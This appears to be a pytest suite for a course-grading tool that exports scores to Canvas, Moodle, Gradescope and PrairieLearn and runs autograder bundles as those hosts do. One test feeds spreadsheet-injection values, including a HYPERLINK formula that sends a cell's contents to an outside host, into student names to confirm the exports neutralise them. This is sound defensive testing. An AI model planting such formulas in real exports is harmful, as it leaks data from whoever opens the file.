"""Every output is read as by its importer, and the autograders are built and run as by their hosts."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import subprocess
import sys
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from hstar.errors import InvalidRequest
from hstar.grading import Grading, grade, read_submission
from hstar.grading.gradebook import Attempt, Entry, Work, entry
from hstar.grading.outputs import FORMATS, ags, canvas, gradescope, moodle, prairielearn, render
from tests.command_line import run
from tests.grading.test_score import COURSE, RIGHT, STUDENTS, assignment, graded, the_course

ROOT = COURSE.parents[1]
AUTOGRADER = ROOT / "examples" / "autograder"


def line(grading: Grading) -> Entry:
    return entry(assignment().given, Work(grading.student or "", attempts=[Attempt(grading)]))


@pytest.mark.parametrize("name", FORMATS)
def test_the_command_line_writes_every_format(name: str, tmp_path: Path) -> None:
    target = tmp_path / "out"
    arguments = ["grade", str(COURSE / "ada.json"), "--assignment", str(COURSE / "assignment.json"), "--format", name]
    done = run(*arguments, "--output", str(target))
    assert done.exit_code == 0, done.output
    assert run(*arguments).stdout == target.read_text()
    assert target.read_text().strip()


def test_a_class_as_a_gradebook() -> None:
    files = [str(COURSE / name) for name in STUDENTS]
    done = run("grade", *files, "--assignment", str(COURSE / "assignment.json"), "--format", "canvas")
    rows = list(csv.reader(io.StringIO(done.stdout)))
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Megaminx with A* (4711)"]
    assert [row[-1] for row in rows[1:]] == ["100", "100", "100", "85", "90", "100"]
    done = run("grade", *files, "--assignment", str(COURSE / "assignment.json"), "--statistics")
    assert json.loads(done.stdout)["similar"][0]["students"] == ["1001", "1005"]
    refused = run("grade", *files, "--assignment", str(COURSE / "assignment.json"), "--format", "gradescope")
    assert refused.exit_code == 2
    unknown = run("grade", files[0], "--assignment", str(COURSE / "assignment.json"), "--format", "gradescop")
    assert unknown.exit_code == 2
    assert "did you mean" in unknown.output


def test_gradescope_shows_no_hidden_total() -> None:
    found = gradescope.Results.model_validate_json(render("gradescope", assignment(), [graded([RIGHT])], []))
    assert found.score is None
    assert found.tests is not None
    assert {test.visibility for test in found.tests} == {"visible", "hidden"}
    hidden = [test for test in found.tests if test.visibility == "hidden"]
    shown = found.model_copy(update={"tests": [test for test in found.tests if test not in hidden]})
    assert "secret" not in shown.model_dump_json()
    for tests in (None, [gradescope.Test()], [gradescope.Test(score=1), gradescope.Test()]):
        with pytest.raises(ValueError, match="expected a score"):
            gradescope.Results(output="x", tests=tests)


def test_gradescope_counts_attempts_without_faults_of_its_own() -> None:
    good: dict[str, Any] = {"autograder_error": False, "results": {"tests": [{"score": 3.0}]}}
    failed = {"autograder_error": True, "results": {}}
    refused = {"autograder_error": False, "results": {"score": 0, "extra_data": {"refused": True}}}
    assert gradescope.attempts_used({"previous_submissions": [good, failed, refused, good]}) == 2
    over = assignment(attempts=2)
    shown = json.loads(gradescope.refused(over, {"previous_submissions": [good, failed]}))
    assert shown["score"] == 3
    with pytest.raises(InvalidRequest):
        gradescope.attempts_used({"previous_submissions": "many"})


def test_prairielearn_within_a_megabyte() -> None:
    found = prairielearn.Results.model_validate_json(render("prairielearn", assignment(), [graded([RIGHT])], []))
    assert found.score == 0.5
    assert found.tests is not None
    assert all("secret" not in test.model_dump_json() for test in found.tests)
    instances = [{"name": f"{i} " + "long " * 30, "k": 3, "seed": i} for i in range(900)]
    large = assignment(
        instances=instances, rubric=[{"kind": k, "points": 1} for k in ("valid", "optimal", "claims_true")]
    )
    text = render("prairielearn", large, [grade(large, read_submission(b"[]"))], [])
    assert len(text.encode()) <= 10**6
    unreadable = prairielearn.Results.model_validate_json(prairielearn.unreadable("no", ["line 1"]))
    assert (unreadable.gradable, unreadable.format_errors) == (False, ["line 1"])


FORMULA = '=HYPERLINK("http://example.org?"&A1)'


@pytest.mark.parametrize("name", ["canvas", "moodle", "csv"])
def test_no_formula_reaches_a_spreadsheet(name: str) -> None:
    for bad in (FORMULA, "+1+1", "-2", "@SUM(A1)", "\tx"):
        found = graded([RIGHT], student="7", name=bad, email=bad)
        text = render(name, assignment(), [found], [line(found)])
        for row in csv.reader(io.StringIO(text)):
            assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for cell in row), row


def test_importers_refuse_unreadable_files() -> None:
    nobody = graded([RIGHT])
    for name in ("canvas", "moodle", "ags"):
        with pytest.raises(InvalidRequest):
            render(name, assignment(), [nobody], [line(nobody)])
    with pytest.raises(InvalidRequest):
        canvas.check("Student,Name,x\nA,1,2\n")
    with pytest.raises(InvalidRequest):
        canvas.check("Student,ID,SIS User ID,SIS Login ID,Section,T (1)\nA,1,,,,many\nB,2\n")
    with pytest.raises(InvalidRequest):
        moodle.check("Who,Email,Name,T\nA,,,1\n", 10)
    with pytest.raises(InvalidRequest):
        moodle.check("ID number,Email,Name,T\n1,,,99\n", 10)
    for half in ("scoreGiven", "scoreMaximum"):
        with pytest.raises(ValueError, match="belong together"):
            ags.Score.model_validate({
                "userId": "1", "timestamp": "2026-12-01T00:00:00Z", "activityProgress": "Completed",
                "gradingProgress": "FullyGraded", half: 1,
            })  # fmt: skip


def test_ags_scores() -> None:
    found = graded([RIGHT], student="7")
    score = ags.Score.model_validate(json.loads(render("ags", assignment(), [found], [line(found)])))
    assert (score.userId, score.scoreGiven, score.scoreMaximum) == ("7", 3, 9)
    assert "no line of the submission is for this instance" in str(score.comment)
    assert score.timestamp.tzinfo is not None


def test_the_counting_attempt_and_penalties_for_lateness() -> None:
    due = datetime(2026, 12, 1, tzinfo=UTC)
    over = assignment(due=due.isoformat(), late={"percent_a_day": 10, "days": 3}, attempts=3).given
    half, full = graded([RIGHT], student="7"), graded([RIGHT, {"instance": "two", "solution": "DR' L'"}], student="7")
    assert (half.score, full.score) == (3, 6)
    attempts = [Attempt(half, due), Attempt(full, due + timedelta(hours=25)), Attempt(half, due + timedelta(days=9))]
    best = entry(over, Work("", attempts=attempts))
    assert (best.score, best.counted, best.late_percent, best.attempts) == (4.8, 2, 20, 3)
    last = entry(over.model_copy(update={"counts": "last"}), Work("", attempts=attempts))
    assert (last.score, last.late_percent) == (0, 100)
    excused = entry(over, Work("", attempts=[Attempt(half, due), Attempt(full, due, excused=True)]))
    assert (excused.score, excused.attempts) == (3, 1)
    late = entry(over, Work("", attempts=[*attempts[:1] * 3, Attempt(full, due)]))
    assert late.score == 3


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    target = tmp_path_factory.mktemp("built")
    command = [sys.executable, str(AUTOGRADER / "build.py"), "--assignment", str(COURSE / "assignment.json")]
    subprocess.run([*command, "--to", str(target)], check=True, timeout=60)
    return target


#: as hosts run them, with the installed hstar instead of one from the wheel
def environment(root: Path, name: str) -> dict[str, str]:
    return {"PATH": os.environ["PATH"], name: str(root), "HSTAR": str(Path(sys.executable).parent / "hstar")}


def gradescope_run(built: Path, root: Path, files: dict[str, bytes], metadata: dict[str, Any]) -> dict[str, Any]:
    """What Gradescope does: unpack the bundle into source, the upload into submission, and run run_autograder."""
    for folder in ("source", "submission", "results"):
        (root / folder).mkdir(parents=True)
    with zipfile.ZipFile(built / "autograder.zip") as archive:
        archive.extractall(root / "source")
    for name, content in files.items():
        (root / "submission" / name).write_bytes(content)
    (root / "submission_metadata.json").write_text(json.dumps(metadata))
    script = root / "run_autograder"
    script.write_bytes((root / "source" / "run_autograder").read_bytes())
    script.chmod(script.stat().st_mode | stat.S_IXUSR)
    subprocess.run([str(script)], check=True, timeout=120, env=environment(root, "AUTOGRADER_ROOT"), cwd=root)
    text = (root / "results" / "results.json").read_text()
    gradescope.Results.model_validate_json(text)
    found: dict[str, Any] = json.loads(text)
    return found


METADATA = {"users": [{"id": 5, "sid": "1001", "name": "Ada", "email": "ada@example.org"}], "previous_submissions": []}


def test_the_gradescope_bundle(built: Path, tmp_path: Path) -> None:
    upload = {"submission.zip": (COURSE / "ben.zip").read_bytes()}
    found = gradescope_run(built, tmp_path / "a", upload, METADATA)
    assert sum(test["score"] for test in found["tests"]) == pytest.approx(100)
    used = {**METADATA, "previous_submissions": [{"results": {"tests": [{"score": 42.0}]}}] * 3}
    assert gradescope_run(built, tmp_path / "b", upload, used)["score"] == 42
    nothing = gradescope_run(built, tmp_path / "c", {"solver.py": b"print()"}, METADATA)
    assert "found solver.py" in nothing["output"]
    broken = gradescope_run(built, tmp_path / "d", {"results.csv": b"a,b\n1,2\n"}, METADATA)
    assert "no column solution" in broken["output"]
    assert broken["extra_data"]["refused"]


#: turns each face back, last one first
SOLVE = b"""#!/bin/sh
read scramble
for move in $scramble; do out="$move' $out"; done
echo "looking"
echo "{\\"solution\\": \\"$out\\"}"
"""


def test_a_program_answers_hidden_instances(tmp_path: Path) -> None:
    """Gradescope's container runs the students' programs; who hands in files could not see these scrambles."""
    (tmp_path / "assignment.json").write_text(
        json.dumps(the_course(hidden=True, rubric=[{"kind": "valid", "points": 6}]))
    )
    command = [sys.executable, str(AUTOGRADER / "build.py"), "--assignment", str(tmp_path / "assignment.json")]
    subprocess.run([*command, "--to", str(tmp_path / "built")], check=True, timeout=60)
    found = gradescope_run(tmp_path / "built", tmp_path / "a", {"solve": SOLVE}, METADATA)
    assert [(test["visibility"], test["score"]) for test in found["tests"]] == [("visible", 5), ("hidden", 1)]
    crashed = gradescope_run(tmp_path / "built", tmp_path / "b", {"solve.py": b"raise SystemExit(3)"}, METADATA)
    assert [test["score"] for test in crashed["tests"]] == [0, 0]
    nothing = gradescope_run(tmp_path / "built", tmp_path / "c", {"results.csv": b"a"}, METADATA)
    assert "there is no program" in nothing["output"]


def prairielearn_run(built: Path, root: Path, files: dict[str, bytes]) -> prairielearn.Results:
    """What PrairieLearn does: mount /grade with student and tests, and run the entry point."""
    (root / "student").mkdir(parents=True)
    (root / "tests").mkdir()
    (root / "tests" / "assignment.json").write_bytes((built / "question" / "tests" / "assignment.json").read_bytes())
    for name, content in files.items():
        (root / "student" / name).write_bytes(content)
    run_sh = str(built / "image" / "run.sh")
    subprocess.run(["bash", run_sh], check=True, timeout=120, env=environment(root, "GRADE_ROOT"), cwd=root)
    return prairielearn.Results.model_validate_json((root / "results" / "results.json").read_text())


def test_the_prairielearn_question(built: Path, tmp_path: Path) -> None:
    options = json.loads((built / "question" / "info.json").read_text())["externalGradingOptions"]
    assert (options["enabled"], options["timeout"]) == (True, 600)
    found = prairielearn_run(built, tmp_path / "a", {"results.json": (COURSE / "cem.json").read_bytes()})
    assert found.gradable
    assert found.score == pytest.approx(0.85)
    assert not prairielearn_run(built, tmp_path / "b", {}).gradable
    broken = prairielearn_run(built, tmp_path / "c", {"results.csv": b"\xff\xff"})
    assert not broken.gradable
    assert broken.format_errors
